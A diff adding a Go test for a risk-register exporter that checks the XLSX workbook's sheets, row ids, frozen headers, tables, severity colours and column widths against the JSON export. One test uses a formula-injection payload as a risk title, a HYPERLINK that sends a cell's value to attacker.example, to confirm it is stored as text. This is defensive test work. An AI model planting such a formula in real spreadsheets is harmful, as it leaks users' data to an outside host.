@@ -1,0 +1,136 @@
+package report
+
+import (
+	"bytes"
+	"encoding/json"
+	"slices"
+	"strings"
+	"testing"
+
+	"archreview/model"
+
+	"github.com/xuri/excelize/v2"
+)
+
+// workbookText is every cell of a workbook as text, sheet by sheet, row by
+// row, tab-separated.
+func workbookText(t *testing.T, b []byte) []byte {
+	t.Helper()
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatalf("the workbook does not open: %v", err)
+	}
+	defer f.Close()
+	var out bytes.Buffer
+	for _, sheet := range f.GetSheetList() {
+		out.WriteString("== " + sheet + "\n")
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows {
+			out.WriteString(strings.Join(row, "\t") + "\n")
+		}
+	}
+	return out.Bytes()
+}
+
+// jsonRiskIDs are the register's ids as the JSON export has them.
+func jsonRiskIDs(t *testing.T, d *model.Document) []string {
+	t.Helper()
+	b, err := Render(d, FormatJSON, ExportOptions{Now: testNow})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Summary struct {
+			Risks []struct {
+				ID string `json:"id"`
+			} `json:"risks"`
+		} `json:"summary"`
+	}
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	var ids []string
+	for _, r := range doc.Summary.Risks {
+		ids = append(ids, r.ID)
+	}
+	if len(ids) < 5 {
+		t.Fatalf("the JSON has only %d risks", len(ids))
+	}
+	return ids
+}
+
+func TestWorkbookReopens(t *testing.T) {
+	d := model.Demo(testNow)
+	const formula = `=HYPERLINK("http://attacker.example/?q="&A1,"Open")`
+	d.Flows[0].Failure.Risks[0].Title = formula
+	b, err := Render(d, FormatXLSX, ExportOptions{Now: testNow})
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatalf("the workbook does not open: %v", err)
+	}
+	defer f.Close()
+	if got := f.GetSheetList(); !slices.Equal(got, WorkbookSheets) {
+		t.Fatalf("sheets %v, want %v", got, WorkbookSheets)
+	}
+	rows, err := f.GetRows(SheetRegister)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ids := jsonRiskIDs(t, d)
+	if len(rows)-1 != len(ids) {
+		t.Fatalf("%d register rows for %d risks in the JSON", len(rows)-1, len(ids))
+	}
+	if rows[0][0] != "ID" {
+		t.Fatalf("the register's first column is %q, want ID", rows[0][0])
+	}
+	titleCol := slices.Index(rows[0], "Risk")
+	found := false
+	for i, row := range rows[1:] {
+		if row[0] != ids[i] {
+			t.Errorf("row %d has id %q, the JSON %q", i+2, row[0], ids[i])
+		}
+		if row[titleCol] != formula {
+			continue
+		}
+		found = true
+		cell, _ := excelize.CoordinatesToCellName(titleCol+1, i+2)
+		if fm, _ := f.GetCellFormula(SheetRegister, cell); fm != "" {
+			t.Errorf("the title became the formula %q", fm)
+		}
+		if typ, _ := f.GetCellType(SheetRegister, cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("the formula-looking title is a cell of type %v, not text", typ)
+		}
+	}
+	if !found {
+		t.Error("no register row holds the formula-looking title as typed")
+	}
+	for _, sheet := range WorkbookSheets {
+		panes, err := f.GetPanes(sheet)
+		if err != nil || !panes.Freeze || panes.YSplit != 1 {
+			t.Errorf("%s: the header row is not frozen (%+v, %v)", sheet, panes, err)
+		}
+		tables, err := f.GetTables(sheet)
+		if err != nil || len(tables) != 1 {
+			t.Errorf("%s: %d tables (the header's filters), want 1: %v", sheet, len(tables), err)
+		}
+	}
+	formats, err := f.GetConditionalFormats(SheetRegister)
+	if err != nil || len(formats) == 0 {
+		t.Fatalf("the register has no severity colours: %v", err)
+	}
+	for _, fs := range formats {
+		if len(fs) != 4 {
+			t.Errorf("%d severity rules, want one a band", len(fs))
+		}
+	}
+	width, err := f.GetColWidth(SheetRegister, "E")
+	if err != nil || width < 20 || width > sheetMaxWidth {
+		t.Errorf("the risk column is %v wide (%v); it should fit its titles", width, err)
+	}
+}
